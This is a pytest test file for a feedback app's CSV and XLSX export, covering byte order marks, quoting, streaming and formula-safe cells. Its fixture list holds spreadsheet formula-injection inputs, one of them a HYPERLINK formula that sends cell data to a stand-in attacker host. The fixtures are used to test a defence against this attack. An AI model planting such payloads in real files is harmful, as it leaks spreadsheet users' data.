"""The one function that knows CSV (and its XLSX twin): BOM, CRLF, RFC 4180 quoting,
formula-safe cells, streaming in chunks. Read back with the csv module and openpyxl."""
import csv
import io

import pytest
from openpyxl import load_workbook

from app.services import exports
from app.services import feedback as feedback_service
from tests.feedback_factories import answers, started_slots

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1",
    "-1+2",
    "@SUM(1)",
    "\tleading tab",
    "\rleading carriage return",
    "第一行\n第二行\r\n第三行",
    'quote " and, comma',
    "普通文本",
    "",
]


def read_csv(data):
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark first"
    text = data[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""))), text


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
    ("+1", "'+1"),
    ("-1+2", "'-1+2"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("a=b", "a=b"),
    ("普通", "普通"),
    (None, ""),
    (True, "是"),
    (12, "12"),
    (-3, "'-3"),
    # Texts Excel would read as another number than the one written.
    ("02157001234", "'02157001234"),  # a landline: the leading zero stays
    ("8613912345678", "'8613912345678"),  # not 8.61391E+12
    ("2345E234", "'2345E234"),  # a ticket number, not 2.345E+237
    ("13912345678", "13912345678"),  # a mobile reads as written
    ("0", "0"),
    ("0.5", "0.5"),
    ("12.5", "12.5"),
    ("2026-12-21", "2026-12-21"),
])
def test_safe_cell(app, value, expected):
    assert exports.safe_cell(value) == expected


def test_csv_has_bom_header_crlf_and_formula_safe_cells(app):
    header = ["编号", "内容"]
    rows = [[i, value] for i, value in enumerate(NASTY)]
    data = b"".join(exports.csv_chunks(header, rows))
    parsed, text = read_csv(data)
    assert parsed[0] == ["编号", "内容"]
    assert len(parsed) == len(NASTY) + 1
    got = [row[1] for row in parsed[1:]]
    assert got[0] == "'" + NASTY[0]
    assert got[1] == "'+1"
    assert got[2] == "'-1+2"
    assert got[3] == "'@SUM(1)"
    assert got[4] == "'\tleading tab"
    assert got[5] == "'\rleading carriage return"
    assert got[6] == "第一行\n第二行\r\n第三行"  # newlines inside a quoted cell survive
    assert got[7] == 'quote " and, comma'
    assert got[8] == "普通文本"
    assert got[9] == ""
    # Every record ends in CRLF, and no cell in the file starts with a formula character.
    assert text.endswith("\r\n")
    assert text.split("\r\n")[0] == "编号,内容"
    for row in parsed:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r"
    # RFC 4180: quotes doubled inside a quoted field.
    assert '"quote "" and, comma"' in text


def test_csv_streams_in_chunks(app):
    rows = ([i, "x" * 10] for i in range(2000))
    chunks = list(exports.csv_chunks(["a", "b"], rows, chunk_rows=500))
    assert len(chunks) >= 4  # header chunk + several row chunks, not one big string
    parsed, _ = read_csv(b"".join(chunks))
    assert len(parsed) == 2001
    assert parsed[-1] == ["1999", "x" * 10]


def test_xlsx_keeps_formulas_as_text(app):
    header = ["编号", "内容"]
    rows = [[i, value] for i, value in enumerate(NASTY)] + [[99, "bad\x00\x07char"]]
    data = b"".join(exports.xlsx_chunks(header, rows, title="评价"))
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["评价"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("编号", "内容")
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    for cell, expected in zip(cells, NASTY, strict=False):
        if expected == "":
            assert cell.value in (None, "")
            continue
        assert cell.data_type == "s", f"{expected!r} must be stored as text"
        assert cell.value == expected.replace("\r\n", "\n").replace("\r", "\n")
    assert cells[0].value.startswith("=HYPERLINK")
    assert cells[-1].value == "badchar"  # XML-illegal control characters dropped, no crash
    assert values[1][0] == 0 and isinstance(values[1][0], int)


def test_feedback_rows_from_the_database(app, db, make_event, make_registration):
    event = make_event(slots=started_slots())
    registration = make_registration(event)
    feedback_service.submit(event, answers(1, {"垃圾分类": 1}, comment="=1+1 不好"),
                            registration=registration)
    feedback_service.submit(event, answers(4), browser_key="k1")
    db.session.commit()  # an export reads committed rows on its own connection
    header, rows = exports.feedback_rows(event)
    rows = list(rows)
    assert header[:6] == ["编号", "提交时间", "场次", "来源", "总体评价", "总体评价（分）"]
    assert "垃圾分类（分）" in header
    assert len(rows) == 2
    first = dict(zip(header, rows[0], strict=True))
    assert first["总体评价"] == "不满意"
    assert first["垃圾分类（分）"] == 1
    assert first["来源"] == "票"
    assert first["跟进状态"] == "待跟进"
    parsed, _ = read_csv(b"".join(exports.csv_chunks(header, rows)))
    assert parsed[1][header.index("意见")] == "'=1+1 不好"


def test_a_running_export_does_not_block_writers(app, db, make_app, make_event):
    """Half-way through a streamed export (a GET), a registration (a POST) still goes
    through: on SQLite the export must not hold the write lock."""
    from app.models import Feedback

    event = make_event(slots=started_slots())
    for i in range(exports.YIELD_PER + 10):
        db.session.add(Feedback(event_id=event.id, overall=4, browser_key=f"k{i}"))
    db.session.commit()
    event_id = event.id
    db.session.remove()
    deployed = make_app(SQLITE_IMMEDIATE_OUTSIDE_REQUESTS=True, SQLITE_BUSY_TIMEOUT_MS=300)
    with deployed.test_request_context("/staff/export", method="GET"):
        from app.models import Event

        _, rows = exports.feedback_rows(db.session.get(Event, event_id))
        first = next(rows)  # the export's read transaction is open now
        assert first[4] == "非常满意"
        with deployed.test_request_context("/events/x/feedback", method="POST"):
            feedback_service.submit(db.session.get(Event, event_id), answers(3),
                                    browser_key="while-exporting")
            db.session.commit()  # would time out ("database is locked") if the export held it
        assert sum(1 for _ in rows) == exports.YIELD_PER + 9
        rows.close()
        db.session.remove()
